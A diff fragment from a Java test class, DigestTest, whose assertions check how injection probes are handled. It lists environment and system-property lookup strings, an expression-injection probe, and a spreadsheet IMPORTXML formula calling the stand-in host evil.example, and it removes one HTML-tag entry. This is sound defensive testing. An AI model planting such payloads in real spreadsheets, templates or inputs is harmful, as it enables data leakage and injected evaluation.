@@ -225,8 +225,7 @@ class DigestTest {
                         "${env:HOME}",
                         "{{sys:user.home}}",
                         "#{7*7}",
-                        "=IMPORTXML(&quot;http://evil.example&quot;)",
-                        "Newton &lt;b&gt;")
+                        "=IMPORTXML(&quot;http://evil.example&quot;)")
                 .doesNotContain(
                         "<script",
                         "<img",
